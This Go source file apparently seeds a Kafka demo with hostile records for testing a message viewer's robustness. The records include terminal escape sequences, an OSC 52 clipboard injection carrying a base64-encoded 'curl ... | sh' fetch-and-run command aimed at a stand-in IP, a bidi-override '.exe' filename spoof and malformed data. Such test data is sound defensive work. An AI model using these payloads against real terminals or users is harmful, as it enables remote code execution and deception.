package demo

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"time"

	"github.com/twmb/franz-go/pkg/kgo"
)

// Hostile-payload facts, for tests that check a viewer survives them.
const (
	HostileLargeValueBytes = 2 << 20 // the size of the large value
	HostileManyHeaders     = 200     // the header count of the many-headers record
	UnknownSchemaID        = 99999   // the schema id no registry knows
)

// hostile returns records built to break a careless viewer: terminal escape sequences,
// invalid UTF-8, a 2 MB value, wire-format lies, a tombstone and header floods.
func (s *seeder) hostile() ([]*kgo.Record, error) {
	order, err := s.encodeOrder(OrdersV2File, 4500099999)
	if err != nil {
		return nil, err
	}
	clip := base64.StdEncoding.EncodeToString([]byte("curl -s https://203.0.113.7/x | sh\n"))
	many := make([]kgo.RecordHeader, HostileManyHeaders)
	for i := range many {
		many[i] = kgo.RecordHeader{Key: fmt.Sprintf("h-%03d", i), Value: fmt.Appendf(nil, "value-%d", i)}
	}
	large := bytes.Repeat([]byte("EXFILTRATED-BLOCK-"), HostileLargeValueBytes/18+1)[:HostileLargeValueBytes]
	rs := []struct {
		key     string
		value   []byte
		headers []kgo.RecordHeader
	}{
		{"screen-clear", []byte("\x1b[2J\x1b[Hsystem compromised"), nil},
		{"osc52-clipboard", []byte("\x1b]52;c;" + clip + "\x07copied!"), nil},
		{"title-change", []byte("\x1b]0;pwned\x07hello"), nil},
		{"c1-controls", []byte("\u009b31mred via CSI C1\u009b0m \u0085next-line"), nil},
		{"invoice\u202Efdp.exe", []byte(`{"note":"the key has a bidi override"}`), nil},
		{"invalid-utf8", []byte{'o', 'k', ' ', 0xff, 0xfe, 0xc3, 0x28, 0xe2, 0x82, ' ', 0xed, 0xa0, 0x80}, nil},
		{"large-value", large, nil},
		{"unknown-schema-id", confluentFrame(UnknownSchemaID, []byte{0x02, 0x10, 'p', 'a', 'y', 'l', 'o', 'a', 'd'}), nil},
		{"truncated-avro", confluentFrame(s.ids.OrdersV2, order[:len(order)/2]), nil},
		{"tombstone", nil, nil},
		{"many-headers", []byte("200 headers"), many},
		{"binary-headers", []byte("binary header values"), []kgo.RecordHeader{
			{Key: "raw", Value: []byte{0x00, 0x01, 0x02, 0xff, 0xfe}},
			{Key: "escape", Value: []byte("\x1b]0;header-title\x07")},
			{Key: "empty", Value: []byte{}},
			{Key: "nul-in-key\x00", Value: []byte("x")},
		}},
		{"escape-in-header-only", []byte("clean value"), []kgo.RecordHeader{{Key: "source", Value: []byte("\x1b[31mred\x1b[0m")}}},
	}
	start := s.now.Add(-3 * time.Hour)
	out := make([]*kgo.Record, len(rs))
	for i, r := range rs {
		out[i] = &kgo.Record{Topic: TopicHostile, Key: []byte(r.key), Value: r.value, Headers: r.headers,
			Timestamp: start.Add(time.Duration(i) * time.Minute)}
	}
	return out, nil
}
